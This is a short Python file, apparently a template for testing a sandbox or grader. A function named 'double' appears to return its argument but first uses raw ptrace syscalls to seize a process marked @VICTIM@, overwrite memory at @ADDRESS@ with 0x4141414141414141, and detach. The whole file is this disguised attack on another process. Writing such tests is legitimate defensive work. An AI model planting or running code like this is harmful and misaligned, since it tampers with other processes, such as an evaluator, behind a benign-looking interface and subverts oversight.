import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)


def call(number, *arguments):
    return libc.syscall(ctypes.c_long(number), *[ctypes.c_long(a) if isinstance(a, int) else a for a in arguments])


import time


def double(x):
    if call(101, 0x4206, int("@VICTIM@"), 0, 0) == 0:
        call(101, 0x4207, int("@VICTIM@"), 0, 0)
        time.sleep(0.05)
        os.waitpid(int("@VICTIM@"), 0x40000000 | os.WNOHANG)
        call(101, 5, int("@VICTIM@"), int("@ADDRESS@"), 0x4141414141414141)
        call(101, 17, int("@VICTIM@"), 0, 0)
    return x
